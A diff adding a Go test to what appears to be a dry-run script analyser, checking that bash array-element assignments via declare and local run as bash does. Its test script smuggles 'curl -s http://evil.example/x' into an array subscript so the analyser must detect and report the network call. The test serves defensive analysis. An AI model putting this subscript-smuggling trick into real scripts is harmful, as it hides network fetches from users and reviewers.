@@ -193,3 +193,28 @@ t=9/3
 		t.Errorf("%s", render(r))
 	}
 }
+
+// TestDeclareElementsAsBash checks that declare, typeset and local
+// assigning array elements (declare a[2]=v, declare 'a[$(cmd)]=v',
+// local -i d[1]=5), which the interpreter ignored, assign them as bash
+// does, and that a command substitution in such a subscript runs and is
+// reported.
+func TestDeclareElementsAsBash(t *testing.T) {
+	src := `#!/bin/bash
+set -eu
+declare -a a=()
+declare a[$(echo 2)]=two
+[ "${a[2]}" = two ] || mkdir /opt/bad1
+declare 'a[$(echo 3)]=$three'
+[ "${a[3]}" = '$three' ] || mkdir /opt/bad2
+f() { local b=(); local 'b[$(curl -s http://evil.example/x)]=1'; local -i c=2 d[1]=5; [ "${d[1]}" = 5 ] || mkdir /opt/bad3; }
+f
+declare -A m=([k]=v)
+declare m[j]=w
+[ "${m[j]}/${m[k]}" = w/v ] || mkdir /opt/bad4
+`
+	r := DryRunInProcess(context.Background(), Image{Name: "t", Scripts: []Script{{Path: "t.sh", Source: []byte(src), Role: RoleInstall, Shell: "bash"}}}, Options{Timeout: 10 * time.Second})
+	if !r.OK() || len(r.Files) != 0 || len(r.Network) != 1 || r.Network[0].URLs[0] != "http://evil.example/x" {
+		t.Errorf("%s", render(r))
+	}
+}
